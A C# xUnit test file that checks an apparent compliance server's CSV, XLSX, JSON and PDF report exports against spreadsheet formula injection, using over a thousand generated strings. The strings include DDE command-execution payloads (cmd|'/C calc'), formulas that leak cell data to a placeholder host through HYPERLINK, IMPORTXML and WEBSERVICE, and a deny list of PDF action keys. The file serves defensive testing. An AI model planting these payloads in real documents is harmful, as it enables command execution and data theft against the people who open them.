using System.Text;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using ChatOpsCompliance.Evidence;
using Xunit;

namespace ChatOpsCompliance.Server.Tests.ReportFiles;

/// <summary>A thousand texts that somebody could put into a name or a reason, as a row and as a fact: a spreadsheet or a viewer runs none of them.</summary>
public sealed partial class NoFormulaIsLive
{
    private static readonly string[] Signs = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  @", "＝", "＋", "－", "＠", "\u00a0=", "'=", "\"=", "=\t", "=+", "=-", "-+=", "@=", "a;=", "a,=", "a|=", "a\t=", "a\r\n=", "a\";=", "a; @", ";;=", "%0A-"];

    private static readonly string[] Payloads =
    [
        "1+1", "cmd|'/C calc'!A0", "cmd|' /C notepad'!'A1'", "HYPERLINK(\"http://x.example?leak=\"&A1&A2,\"Click\")", "IMPORTXML(CONCAT(\"http://x.example/?v=\",A1),\"//a\")", "WEBSERVICE(\"http://x.example\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "SUM(1+1)*cmd|' /C calc'!A0", "IMAGE(\"http://x.example/p.png\")", "2+5+cmd|' /C calc'!A0", "rundll32|'URL.dll,OpenURL x'!A",
        "INDIRECT(\"A1\")", "ImportData(\"http://x.example\")", "FILTERXML(\"<a/>\",\"//a\")", "CALL(\"urlmon\",\"URLDownloadToFileA\")", "REGISTER.ID(\"a\",\"b\")", "EXEC(\"calc\")", "1-1", "A1", "javascript:alert(1)", "{1,2}", "_x0041_", "TRUE",
        "\"\"\"", "(1)", "https://x.example", "sum(a1:b2)", "N()", "@SUM(1)", "+1", "=1", "Привет()", "'", "\\", "#REF!",
    ];

    internal static readonly string[] All = [.. Signs.SelectMany(s => Payloads.Select(p => s + p))];

    private static readonly ReportTable Table = EveryFormatTellsTheSame.Some(All.Select((text, i) => new EveryFormatTellsTheSame.Line(text, i, null, null, null)), [.. All.Select((text, i) => new ReportFact($"fact_{i}", text))]);

    [Fact]
    public void There_are_a_thousand() => Assert.True(All.Distinct().Count() > 1000);

    [Fact]
    public void In_csv_by_commas_or_by_the_semicolons_of_another_language()
    {
        Assert.Equal(All.Length + 1, ReportFile.Rows("csv", Table).Count);
        NoneInCsv(ReportFile.Of("csv", Table));
    }

    internal static void NoneInCsv(byte[] file)
    {
        Found.Nothing(ReportFile.Rows("csv", file).Skip(1).SelectMany(r => r).Where(f => Live().IsMatch(f)));
        foreach (var mark in ";|\t\r\n") Found.Nothing(Encoding.UTF8.GetString(file).Split(mark).Select(cell => cell.Trim('"')).Where(cell => Live().IsMatch(cell)));
    }

    [Fact]
    public void In_csv_nothing_but_an_apostrophe_is_added() =>
        Assert.Equal(All.Select(Bare), ReportFile.Rows("csv", Table).Skip(1).Select(r => Bare(r[0])));

    [Fact]
    public void In_a_workbook_no_cell_is_a_formula_and_editing_makes_none()
    {
        var quoted = QuotedInWorkbook(ReportFile.Of("xlsx", Table));

        Assert.All(quoted, count => Assert.True(count > 0));
        Assert.True(quoted.Sum() > 1000);
    }

    /// <summary>How many texts of each sheet would be formulas, were they not marked as text.</summary>
    internal static List<int> QuotedInWorkbook(byte[] file)
    {
        XNamespace main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        var quoted = new List<int>();
        var quoting = ReportFile.Part(file, "xl/styles.xml").Descendants(main + "cellXfs").Single().Elements().Select(x => x.Attribute("quotePrefix")?.Value == "1").ToList();

        foreach (var sheet in (string[])["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"])
        {
            var xml = ReportFile.Part(file, sheet);
            Assert.Empty(xml.Descendants(main + "f"));
            Assert.Empty(xml.Descendants(main + "hyperlink"));
            var texts = xml.Descendants(main + "c").Where(c => c.Attribute("t")?.Value == "inlineStr" && Live().IsMatch(c.Value)).ToList();
            quoted.Add(texts.Count);
            Assert.All(texts, c => Assert.True(quoting[int.Parse(c.Attribute("s")!.Value, System.Globalization.CultureInfo.InvariantCulture)], c.Value));
        }

        Assert.DoesNotContain(ReportFile.Parts(file), p => p.Contains("external", StringComparison.OrdinalIgnoreCase) || p.Contains("vba", StringComparison.OrdinalIgnoreCase));
        return quoted;
    }

    [Fact]
    public void In_a_workbook_the_text_is_as_it_was() => Assert.Equal(All, ReportFile.Rows("xlsx", Table).Skip(1).Select(r => r[0]));

    [Fact]
    public void In_json_the_text_is_as_it_was() => Assert.Equal(All, ReportFile.Rows("json", Table).Skip(1).Select(r => r[0]));

    [Fact]
    public void On_paper_there_is_nothing_to_click_or_run()
    {
        var file = ReportFile.Of("pdf", Table);

        NothingRunsOnPaper(file);
        Assert.Contains("cmd|'/Ccalc'!A0", ReportFile.Letters(file), StringComparison.Ordinal);
    }

    internal static void NothingRunsOnPaper(byte[] file)
    {
        var raw = Encoding.Latin1.GetString(file);
        Assert.All((string[])["/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/URI", "/Annots", "/EmbeddedFile"], a => Assert.DoesNotMatch($@"{a}\b", raw));
    }

    private static string Bare(string text) => text.Replace("'", "", StringComparison.Ordinal);

    [GeneratedRegex(@"^[\s""]*[=+\-@＝＋－＠]", RegexOptions.CultureInvariant | RegexOptions.NonBacktracking)]
    internal static partial Regex Live();
}
